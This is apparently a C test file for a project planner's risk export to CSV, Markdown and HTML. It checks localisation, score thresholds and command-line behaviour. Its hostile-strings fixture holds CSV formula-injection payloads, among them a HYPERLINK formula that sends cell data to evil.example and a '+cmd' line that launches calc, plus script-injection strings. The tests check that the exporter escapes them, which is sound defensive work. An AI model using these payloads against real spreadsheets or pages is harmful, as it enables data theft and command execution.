/* test-export-risks.c — `export risks` as CSV, Markdown and HTML. */
#include "config.h"

#include <locale.h>
#include <string.h>
#include <glib/gstdio.h>
#include <glib/gi18n-lib.h>

#include "upg-export-risks.h"
#include "upg-plan.h"
#include "upg-store.h"
#include "upg-test-util.h"

typedef struct {
  UpgStore   *store;
  UpgProject *project;
  char       *db;
  char       *id;
} Fixture;

static void
fixture_open (Fixture    *f,
              const char *json)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GArray) ids = NULL;
  gint64 id;

  f->db = upg_test_tmpfile ("plan.db");
  f->store = upg_store_open (f->db, UPG_STORE_OPEN_CREATE, &error);
  g_assert_no_error (error);
  upg_plan_import (f->store, json, -1, &ids, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (ids->len, ==, 1);
  id = g_array_index (ids, gint64, 0);
  f->id = g_strdup_printf ("%" G_GINT64_FORMAT, id);
  f->project = upg_store_lookup_project (f->store, id, &error);
  g_assert_no_error (error);
  upg_store_load_children (f->store, UPG_RECORD (f->project), &error);
  g_assert_no_error (error);
}

static void
fixture_open_sample (Fixture *f)
{
  g_autofree char *path = upg_test_data_path ("sample-plan.json");
  g_autofree char *json = upg_test_read (path, NULL);
  fixture_open (f, json);
}

static void
fixture_close (Fixture *f)
{
  g_clear_object (&f->project);
  g_clear_object (&f->store);
  g_clear_pointer (&f->db, g_free);
  g_clear_pointer (&f->id, g_free);
}

static char *
read_data (const char *name)
{
  g_autofree char *path = upg_test_data_path (name);
  return upg_test_read (path, NULL);
}

/* ---- The sample plan --------------------------------------------------- */

static const char sample_csv[] =
  "title,category,likelihood,impact,score,level,residual_score,owner,status,mitigation,contingency\r\n"
  "Backfill corrupts historic invoices,data_migration,2,5,10,high,5,Mei Lin,open,"
  "Backup with SHA-256 checksums; incremental backfill with row counts verified per batch.,"
  "Restore from backup; verify checksums.\r\n"
  "Gateway SDK slower under load,performance,3,3,9,medium,6,Jonas Berg,open,"
  "Load test at 2x peak before the canary.,Roll back to 4.1.7 within 10 minutes.\r\n"
  "Support not briefed on new invoice layout,user_experience,2,2,4,low,,,mitigated,"
  "Briefing one week before.,\r\n";

static void
test_sample_csv (void)
{
  Fixture f = { 0 };
  g_autofree char *csv = NULL;
  g_autofree char *golden = read_data ("risks-sample.csv");

  fixture_open_sample (&f);
  csv = upg_export_risks_csv (f.project, NULL, UPG_CSV_MACHINE);
  g_assert_cmpstr (csv, ==, sample_csv);
  g_assert_cmpstr (golden, ==, sample_csv);
  fixture_close (&f);
}

/* The spreadsheet form (the default): a byte order mark, column names and
 * values in the user's language. */
static const char sample_csv_spreadsheet[] =
  UPG_CSV_BOM "Title,Category,Likelihood,Impact,Score,Level,Residual Score,Owner,Status,Mitigation,Contingency\r\n"
  "Backfill corrupts historic invoices,Data migration,2,5,10,High,5,Mei Lin,Open,"
  "Backup with SHA-256 checksums; incremental backfill with row counts verified per batch.,"
  "Restore from backup; verify checksums.\r\n"
  "Gateway SDK slower under load,Performance,3,3,9,Medium,6,Jonas Berg,Open,"
  "Load test at 2x peak before the canary.,Roll back to 4.1.7 within 10 minutes.\r\n"
  "Support not briefed on new invoice layout,User experience,2,2,4,Low,,,Mitigated,"
  "Briefing one week before.,\r\n";

static const char sample_csv_zh_CN[] =
  UPG_CSV_BOM "标题,类别,可能性,影响,分值,等级,剩余分值,负责人,状态,缓解措施,应急预案\r\n"
  "Backfill corrupts historic invoices,数据迁移,2,5,10,高,5,Mei Lin,未解决,"
  "Backup with SHA-256 checksums; incremental backfill with row counts verified per batch.,"
  "Restore from backup; verify checksums.\r\n"
  "Gateway SDK slower under load,性能,3,3,9,中,6,Jonas Berg,未解决,"
  "Load test at 2x peak before the canary.,Roll back to 4.1.7 within 10 minutes.\r\n"
  "Support not briefed on new invoice layout,用户体验,2,2,4,低,,,已缓解,"
  "Briefing one week before.,\r\n";

static void
test_sample_csv_spreadsheet (void)
{
  Fixture f = { 0 };
  UpgExportOptions options = { .format = "csv" };
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) bytes = NULL;
  g_autofree char *csv = NULL;

  fixture_open_sample (&f);
  csv = upg_export_risks_csv (f.project, NULL, UPG_CSV_SPREADSHEET);
  g_assert_cmpstr (csv, ==, sample_csv_spreadsheet);
  /* The export table's default form is the spreadsheet's. */
  bytes = upg_export_run (f.store, "risks", upg_record_get_id (UPG_RECORD (f.project)), &options, &error);
  g_assert_no_error (error);
  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes),
                   sample_csv_spreadsheet, strlen (sample_csv_spreadsheet));

  /* In Chinese, with the translations as built (LC_ALL is C.UTF-8 in
   * the tests' environment: gettext reads LANGUAGE in it). */
  setlocale (LC_ALL, "");
  bindtextdomain (GETTEXT_PACKAGE, UPG_TEST_LOCALEDIR);
  bind_textdomain_codeset (GETTEXT_PACKAGE, "UTF-8");
  g_setenv ("LANGUAGE", "zh_CN", TRUE);
  g_clear_pointer (&csv, g_free);
  setlocale (LC_ALL, "");   /* glibc forgets the translations it looked up */
  csv = upg_export_risks_csv (f.project, NULL, UPG_CSV_SPREADSHEET);
  g_setenv ("LANGUAGE", "en", TRUE);
  setlocale (LC_ALL, "");
  g_assert_cmpstr (csv, ==, sample_csv_zh_CN);
  fixture_close (&f);
}

static void
test_sample_md (void)
{
  Fixture f = { 0 };
  g_autofree char *md = NULL;
  g_autofree char *golden = read_data ("risks-sample.md");

  fixture_open_sample (&f);
  md = upg_export_risks_md (f.project, NULL);
  g_assert_cmpstr (md, ==, golden);

  /* A few lines spelled out, so the golden file cannot drift unnoticed. */
  g_assert_true (g_str_has_prefix (md, "# Risks: Billing service 4.2 upgrade\n\n"
                                       "Score = likelihood × impact. Levels: Low 1–4, Medium 5–9, High 10–16, Critical 20–25.\n"));
  g_assert_nonnull (strstr (md, "\n| **Unlikely** | 0 · Low | **1** · Low | 0 · Medium | 0 · Medium | **1** · High |\n"));
  g_assert_nonnull (strstr (md, "\n| **Rare** | 0 · Low | 0 · Low | 0 · Low | 0 · Low | **1** · Medium |\n"));
  g_assert_nonnull (strstr (md, "\n| 1 | Backfill corrupts historic invoices | Data migration | 2 · Unlikely | "
                                "5 · Catastrophic | 10 | High | 5 · Medium | Mei Lin | Open |\n"));
  g_assert_nonnull (strstr (md, "\n| 3 | Support not briefed on new invoice layout | User experience | 2 · Unlikely | "
                                "2 · Minor | 4 | Low | — | — | Mitigated |\n"));
  g_assert_true (g_str_has_suffix (md, "- Mitigation: Briefing one week before.\n- Contingency: —\n"));
  fixture_close (&f);
}

static void
test_sample_html (void)
{
  Fixture f = { 0 };
  g_autofree char *html = NULL;
  g_autofree char *golden = read_data ("risks-sample.html");
  const char *matrix, *reg;

  fixture_open_sample (&f);
  html = upg_export_risks_html (f.project, NULL);
  g_assert_cmpstr (html, ==, golden);

  g_assert_true (g_str_has_prefix (html, "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n"));
  g_assert_true (g_str_has_suffix (html, "</tbody>\n</table>\n</body>\n</html>\n"));
  /* Self-contained: nothing is fetched. */
  g_assert_null (strstr (html, "<link"));
  g_assert_null (strstr (html, "<script"));
  g_assert_null (strstr (html, "src="));
  /* The matrix comes before the register. */
  matrix = strstr (html, "<table class=\"matrix\">");
  reg = strstr (html, "<table class=\"register\">");
  g_assert_nonnull (matrix);
  g_assert_nonnull (reg);
  g_assert_true (matrix < reg);
  g_assert_nonnull (strstr (html, "<td class=\"high\" title=\"Unlikely × Catastrophic: 1 risk, high\">"
                                  "<span class=\"count\">1</span>High</td>"));
  g_assert_nonnull (strstr (html, "<tr><th scope=\"row\" class=\"text\">Gateway SDK slower under load</th>"
                                  "<td>Performance</td><td>3 · Possible</td><td>3 · Moderate</td>"
                                  "<td class=\"num\">9</td><td><span class=\"pill medium\">Medium</span></td>"
                                  "<td>6 · <span class=\"pill medium\">Medium</span></td><td>Jonas Berg</td>"
                                  "<td>Open</td><td class=\"text\">Load test at 2x peak before the canary.</td>"
                                  "<td class=\"text\">Roll back to 4.1.7 within 10 minutes.</td></tr>\n"));
  fixture_close (&f);
}

static void
test_thresholds (void)
{
  Fixture f = { 0 };
  UpgRiskThresholds t = { 3, 6, 9 };
  g_autofree char *csv = NULL;

  fixture_open_sample (&f);
  csv = upg_export_risks_csv (f.project, &t, UPG_CSV_MACHINE);
  /* 10 → critical, 9 → critical, 4 → medium; residual scores are not levelled. */
  g_assert_nonnull (strstr (csv, "\r\nBackfill corrupts historic invoices,data_migration,2,5,10,critical,5,"));
  g_assert_nonnull (strstr (csv, "\r\nGateway SDK slower under load,performance,3,3,9,critical,6,"));
  g_assert_nonnull (strstr (csv, "\r\nSupport not briefed on new invoice layout,user_experience,2,2,4,medium,,"));
  fixture_close (&f);
}

/* ---- Hostile strings --------------------------------------------------- */

static char *
hostile_plan (void)
{
  GString *j = g_string_new ("{\"format\":\"upgrade-planner\",\"version\":1,\"projects\":[{\"name\":");

  upg_json_append_string (j, "Shop <3.0> & \"Co\" | #1");
  g_string_append (j, ",\"kind\":\"feature\",\"status\":\"planning\",\"goal\":\"\",\"scope\":\"\","
                      "\"impact\":\"\",\"version_from\":null,\"version_to\":null,\"build_id\":null,"
                      "\"window_start\":null,\"window_end\":null,\"rollback_target_minutes\":10,"
                      "\"created_at\":\"2026-01-01T00:00:00Z\",\"updated_at\":\"2026-01-01T00:00:00Z\","
                      "\"scope_items\":[],\"milestones\":[],\"risks\":[");

  g_string_append (j, "{\"title\":");
  upg_json_append_string (j, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
  g_string_append (j, ",\"category\":\"compatibility\",\"likelihood\":5,\"impact\":5,"
                      "\"residual_likelihood\":null,\"residual_impact\":null,\"mitigation\":");
  upg_json_append_string (j, "Line one, with comma\nLine two \"quoted\"");
  g_string_append (j, ",\"contingency\":");
  upg_json_append_string (j, "\t=1+1");
  g_string_append (j, ",\"owner\":");
  upg_json_append_string (j, "-Eve+1");
  g_string_append (j, ",\"status\":\"open\"},");

  g_string_append (j, "{\"title\":");
  upg_json_append_string (j, "<script>alert('x')</script> & <b>bold</b>");
  g_string_append (j, ",\"category\":\"user_experience\",\"likelihood\":1,\"impact\":1,"
                      "\"residual_likelihood\":1,\"residual_impact\":1,\"mitigation\":");
  upg_json_append_string (j, "*star* _under_ [link](javascript:alert(1)) | pipe # hash\n1. item\r\n- dash");
  g_string_append (j, ",\"contingency\":");
  upg_json_append_string (j, "@SUM(A1:A2)");
  g_string_append (j, ",\"owner\":null,\"status\":\"occurred\"},");

  g_string_append (j, "{\"title\":");
  upg_json_append_string (j, "+cmd|' /C calc'!A0");
  g_string_append (j, ",\"category\":\"security\",\"likelihood\":3,\"impact\":4,"
                      "\"residual_likelihood\":2,\"residual_impact\":2,\"mitigation\":\"\","
                      "\"contingency\":\"\",\"owner\":");
  upg_json_append_string (j, "-Eve+1");
  g_string_append (j, ",\"status\":\"closed\"}");

  g_string_append (j, "],\"team\":[{\"name\":");
  upg_json_append_string (j, "-Eve+1");
  g_string_append (j, ",\"email\":null,\"role\":\"qa\",\"responsibilities\":\"\"}],"
                      "\"stakeholder_groups\":[],\"sop\":[],\"retrospective\":null}]}");
  return g_string_free (j, FALSE);
}

static void
test_hostile_csv (void)
{
  Fixture f = { 0 };
  g_autofree char *json = hostile_plan ();
  g_autofree char *csv = NULL;

  fixture_open (&f, json);
  csv = upg_export_risks_csv (f.project, NULL, UPG_CSV_MACHINE);
  g_assert_cmpstr (csv, ==,
    "title,category,likelihood,impact,score,level,residual_score,owner,status,mitigation,contingency\r\n"
    "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",compatibility,5,5,25,critical,,"
    "\"'-Eve+1\",open,\"Line one, with comma\nLine two \"\"quoted\"\"\",\"'\t=1+1\"\r\n"
    "<script>alert('x')</script> & <b>bold</b>,user_experience,1,1,1,low,1,,occurred,"
    "\"*star* _under_ [link](javascript:alert(1)) | pipe # hash\n1. item\r\n- dash\",\"'@SUM(A1:A2)\"\r\n"
    "\"'+cmd|' /C calc'!A0\",security,3,4,12,high,4,\"'-Eve+1\",closed,,\r\n");
  fixture_close (&f);
}

static void
test_hostile_md (void)
{
  Fixture f = { 0 };
  g_autofree char *json = hostile_plan ();
  g_autofree char *md = NULL;

  fixture_open (&f, json);
  md = upg_export_risks_md (f.project, NULL);
  g_assert_true (g_str_has_prefix (md, "# Risks: Shop \\<3.0\\> \\& \"Co\" \\| #1\n\n"));
  g_assert_nonnull (strstr (md,
    "\n| 1 | \\=HYPERLINK(\"http://evil.example/?\"\\&A1,\"Click\") | Compatibility | 5 · Almost certain | "
    "5 · Catastrophic | 25 | Critical | — | -Eve+1 | Open |\n"
    "| 2 | \\<script\\>alert('x')\\</script\\> \\& \\<b\\>bold\\</b\\> | User experience | 1 · Rare | "
    "1 · Insignificant | 1 | Low | 1 · Low | — | Occurred |\n"
    "| 3 | +cmd\\|' /C calc'!A0 | Security | 3 · Possible | 4 · Major | 12 | High | 4 · Low | -Eve+1 | Closed |\n"));
  g_assert_nonnull (strstr (md,
    "\n1\\. **\\=HYPERLINK(\"http://evil.example/?\"\\&A1,\"Click\")**\n\n"
    "- Mitigation: Line one, with comma\\\nLine two \"quoted\"\n"
    "- Contingency: \t\\=1+1\n"));
  g_assert_nonnull (strstr (md,
    "\n2\\. **\\<script\\>alert('x')\\</script\\> \\& \\<b\\>bold\\</b\\>**\n\n"
    "- Mitigation: \\*star\\* \\_under\\_ \\[link\\](javascript:alert(1)) \\| pipe # hash\\\n1\\. item\\\n\\- dash\n"
    "- Contingency: @SUM(A1:A2)\n"));
  g_assert_true (g_str_has_suffix (md,
    "\n3\\. **+cmd\\|' /C calc'!A0**\n\n"
    "- Mitigation: —\n"
    "- Contingency: —\n"));
  /* Nothing of the user's text survives raw. */
  g_assert_null (strstr (md, "<script>"));
  g_assert_null (strstr (md, "<b>"));
  g_assert_null (strstr (md, "[link]"));
  g_assert_null (strstr (md, "\r"));
  fixture_close (&f);
}

static void
test_hostile_html (void)
{
  Fixture f = { 0 };
  g_autofree char *json = hostile_plan ();
  g_autofree char *html = NULL;

  fixture_open (&f, json);
  html = upg_export_risks_html (f.project, NULL);
  g_assert_nonnull (strstr (html, "<title>Risks: Shop &lt;3.0&gt; &amp; &quot;Co&quot; | #1</title>"));
  g_assert_nonnull (strstr (html, "<h1>Risks: Shop &lt;3.0&gt; &amp; &quot;Co&quot; | #1</h1>"));
  g_assert_nonnull (strstr (html,
    "<tr><th scope=\"row\" class=\"text\">&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;</th>"
    "<td>User experience</td><td>1 · Rare</td><td>1 · Insignificant</td><td class=\"num\">1</td>"
    "<td><span class=\"pill low\">Low</span></td><td>1 · <span class=\"pill low\">Low</span></td>"
    "<td>—</td><td>Occurred</td>"
    "<td class=\"text\">*star* _under_ [link](javascript:alert(1)) | pipe # hash\n1. item\r\n- dash</td>"
    "<td class=\"text\">@SUM(A1:A2)</td></tr>\n"));
  g_assert_nonnull (strstr (html,
    "<tr><th scope=\"row\" class=\"text\">=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Click&quot;)</th>"));
  g_assert_nonnull (strstr (html, "<td class=\"critical\" title=\"Almost certain × Catastrophic: 1 risk, critical\">"
                                  "<span class=\"count\">1</span>Critical</td>"));
  g_assert_null (strstr (html, "<script"));
  g_assert_null (strstr (html, "<b>"));
  fixture_close (&f);
}

static void
test_empty (void)
{
  Fixture f = { 0 };
  g_autofree char *json = hostile_plan ();
  g_autofree char *csv = NULL;
  g_autofree char *md = NULL;
  g_autofree char *html = NULL;
  GListModel *risks;

  fixture_open (&f, json);
  risks = upg_record_get_children (UPG_RECORD (f.project), &upg_entity_risk);
  while (g_list_model_get_n_items (risks) > 0)
    {
      g_autoptr(UpgRecord) risk = g_list_model_get_item (risks, 0);
      g_autoptr(GError) error = NULL;
      upg_store_delete (f.store, risk, NULL, &error);
      g_assert_no_error (error);
    }
  csv = upg_export_risks_csv (f.project, NULL, UPG_CSV_MACHINE);
  g_assert_cmpstr (csv, ==, "title,category,likelihood,impact,score,level,residual_score,"
                            "owner,status,mitigation,contingency\r\n");
  md = upg_export_risks_md (f.project, NULL);
  g_assert_true (g_str_has_suffix (md, "\n## Register\n\nNo risks recorded.\n"));
  html = upg_export_risks_html (f.project, NULL);
  g_assert_true (g_str_has_suffix (html, "<h2>Register</h2>\n<p>No risks recorded.</p>\n</body>\n</html>\n"));
  fixture_close (&f);
}

/* ---- Through the export table and the command line --------------------- */

static void
test_export_run (void)
{
  Fixture f = { 0 };
  g_autoptr(GError) error = NULL;
  g_autoptr(GBytes) bytes = NULL;
  UpgExportOptions options = { .format = "csv", .csv_form = UPG_CSV_MACHINE };
  const UpgExportKind *kind = upg_export_lookup ("risks");

  g_assert_nonnull (kind);
  g_assert_true (kind->needs_project);
  g_assert_cmpstr (kind->formats[0], ==, "csv");
  g_assert_cmpstr (kind->formats[1], ==, "md");
  g_assert_cmpstr (kind->formats[2], ==, "html");
  g_assert_null (kind->formats[3]);

  fixture_open_sample (&f);
  bytes = upg_export_run (f.store, "risks", g_ascii_strtoll (f.id, NULL, 10), &options, &error);
  g_assert_no_error (error);
  g_assert_cmpmem (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes), sample_csv, strlen (sample_csv));

  g_clear_pointer (&bytes, g_bytes_unref);
  bytes = upg_export_run (f.store, "risks", 9999, &options, &error);
  g_assert_error (error, UPG_STORE_ERROR, UPG_STORE_ERROR_NO_SUCH_PROJECT);
  g_assert_null (bytes);
  g_clear_error (&error);

  options.format = "pdf";
  bytes = upg_export_run (f.store, "risks", 1, &options, &error);
  g_assert_error (error, UPG_EXPORT_ERROR, UPG_EXPORT_ERROR_UNKNOWN_FORMAT);
  g_clear_error (&error);

  options.format = "md";
  bytes = upg_export_run (f.store, "risks", 0, &options, &error);
  g_assert_error (error, UPG_EXPORT_ERROR, UPG_EXPORT_ERROR_NEEDS_PROJECT);
  fixture_close (&f);
}

static void
test_cli (void)
{
  Fixture f = { 0 };
  g_autofree char *out = NULL, *err = NULL;
  g_autofree char *golden_md = read_data ("risks-sample.md");
  g_autofree char *golden_html = read_data ("risks-sample.html");
  g_autofree char *dir = upg_test_tmpdir ();
  g_autofree char *html_path = g_build_filename (dir, "risks.html", NULL);
  g_autofree char *missing_path = g_build_filename (dir, "missing.csv", NULL);
  g_autofree char *written = NULL;
  g_autofree char *not_a_plan = g_build_filename (dir, "notes.txt", NULL);
  int status;

  fixture_open_sample (&f);
  /* Close the file so its WAL is checkpointed: the command line is another
   * process. */
  g_clear_object (&f.project);
  g_clear_object (&f.store);

  /* Default format is CSV for spreadsheets, to stdout; --machine-csv gives
   * the plan format's words. */
  status = upg_test_run_cli (&out, &err, "export", "risks", "--db", f.db, "--project", f.id, NULL);
  g_test_message ("stderr: %s", err);
  g_assert_cmpint (status, ==, 0);
  g_assert_cmpstr (out, ==, sample_csv_spreadsheet);
  g_assert_cmpstr (err, ==, "");
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  status = upg_test_run_cli (&out, &err, "export", "risks", "--db", f.db, "--project", f.id, "--machine-csv", NULL);
  g_assert_cmpint (status, ==, 0);
  g_assert_cmpstr (out, ==, sample_csv);
  g_assert_cmpstr (err, ==, "");
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  g_assert_cmpint (upg_test_run_cli (&out, &err, "export", "risks", "--db", f.db, "--project", f.id,
                                     "--format", "md", NULL), ==, 0);
  g_assert_cmpstr (out, ==, golden_md);
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  g_assert_cmpint (upg_test_run_cli (&out, &err, "export", "risks", "--db", f.db, "--project", f.id,
                                     "--format", "html", "-o", html_path, NULL), ==, 0);
  g_assert_cmpstr (out, ==, "");
  written = upg_test_read (html_path, NULL);
  g_assert_cmpstr (written, ==, golden_html);
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  /* Usage errors: 2. */
  g_assert_cmpint (upg_test_run_cli (&out, &err, "export", "risks", "--db", f.db, "--project", f.id,
                                     "--format", "pdf", "-o", missing_path, NULL), ==, 2);
  g_assert_nonnull (strstr (err, "csv, md, html"));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (upg_test_run_cli (&out, &err, "export", "risks", "--db", f.db, "--project", f.id,
                                     "--format", "html", "--machine-csv", "-o", missing_path, NULL), ==, 2);
  g_assert_cmpstr (out, ==, "");
  g_assert_cmpstr (err, ==, "upgrade-planner: --machine-csv is only for CSV\nTry “upgrade-planner --help” for more information.\n");
  g_assert_false (g_file_test (missing_path, G_FILE_TEST_EXISTS));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (upg_test_run_cli (&out, &err, "export", "risks", "--db", f.db, "--format", "csv",
                                     "-o", missing_path, NULL), ==, 2);
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  /* Bad input: 1, one line on stderr, nothing written. */
  g_assert_cmpint (upg_test_run_cli (&out, &err, "export", "risks", "--db", f.db, "--project", "9999",
                                     "-o", missing_path, NULL), ==, 1);
  g_assert_cmpstr (out, ==, "");
  g_assert_nonnull (strstr (err, "9999"));
  g_assert_nonnull (strchr (err, '\n'));
  g_assert_cmpstr (strchr (err, '\n') + 1, ==, "");
  g_assert_false (g_file_test (missing_path, G_FILE_TEST_EXISTS));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  upg_test_write (not_a_plan, "just some notes\n");
  g_assert_cmpint (upg_test_run_cli (&out, &err, "export", "risks", "--db", not_a_plan, "--project", "1",
                                     "-o", missing_path, NULL), ==, 1);
  g_assert_false (g_file_test (missing_path, G_FILE_TEST_EXISTS));
  fixture_close (&f);
}

int
main (int argc, char **argv)
{
  upg_test_init (&argc, &argv);

  g_test_add_func ("/export-risks/sample/csv", test_sample_csv);
  g_test_add_func ("/export-risks/sample/csv-spreadsheet", test_sample_csv_spreadsheet);
  g_test_add_func ("/export-risks/sample/md", test_sample_md);
  g_test_add_func ("/export-risks/sample/html", test_sample_html);
  g_test_add_func ("/export-risks/thresholds", test_thresholds);
  g_test_add_func ("/export-risks/hostile/csv", test_hostile_csv);
  g_test_add_func ("/export-risks/hostile/md", test_hostile_md);
  g_test_add_func ("/export-risks/hostile/html", test_hostile_html);
  g_test_add_func ("/export-risks/empty", test_empty);
  g_test_add_func ("/export-risks/export-run", test_export_run);
  g_test_add_func ("/export-risks/cli", test_cli);

  return g_test_run ();
}
